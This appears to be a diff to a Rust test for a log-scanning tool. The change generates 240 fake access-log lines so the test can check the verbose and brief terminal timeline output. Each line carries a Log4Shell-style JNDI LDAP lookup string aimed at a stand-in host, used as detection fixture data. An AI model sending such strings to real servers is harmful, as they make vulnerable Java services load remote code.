@@ -669,8 +669,9 @@ fn terminal_report_colours_wraps_and_honours_no_color() {
     );
     // --verbose: every log hit (the default shows the first 50).
     let dir = tempfile::tempdir().unwrap();
-    let log: String = (0..120)
-        .map(|i| format!("198.51.100.{} - - [27/Nov/2026:12:00:{:02} +0000] \"GET /?x=${{jndi:ldap://198.51.100.9:1389/a{i}}} HTTP/1.1\" 404 1 \"-\" \"x\"\n", i % 200, i % 60))
+    // 240 records: more timeline events (one per record) than the terminal shows by default.
+    let log: String = (0..240)
+        .map(|i| format!("198.51.100.{} - - [27/Nov/2026:12:{:02}:{:02} +0000] \"GET /?x=${{jndi:ldap://198.51.100.9:1389/a{i}}} HTTP/1.1\" 404 1 \"-\" \"x\"\n", i % 200, i / 60, i % 60))
         .collect();
     let many = dir.path().join("access.log");
     std::fs::write(&many, log).unwrap();
@@ -681,7 +682,7 @@ fn terminal_report_colours_wraps_and_honours_no_color() {
     let hits =
         |t: &str| t.lines().filter(|l| l.trim_start().starts_with("line: ") && l.contains("1389/a")).count();
     assert!(brief.contains("more (see JSON or --verbose)"), "{brief}");
-    assert!(hits(&all) > hits(&brief) && hits(&all) >= 360, "{} vs {}", hits(&all), hits(&brief));
+    assert!(hits(&all) > hits(&brief) && hits(&all) >= 720, "{} vs {}", hits(&all), hits(&brief));
     assert!(!all.contains("more (see JSON or --verbose)"), "the whole timeline with --verbose");
     assert!(!short.is_empty());
     // The first screen is the verdict.
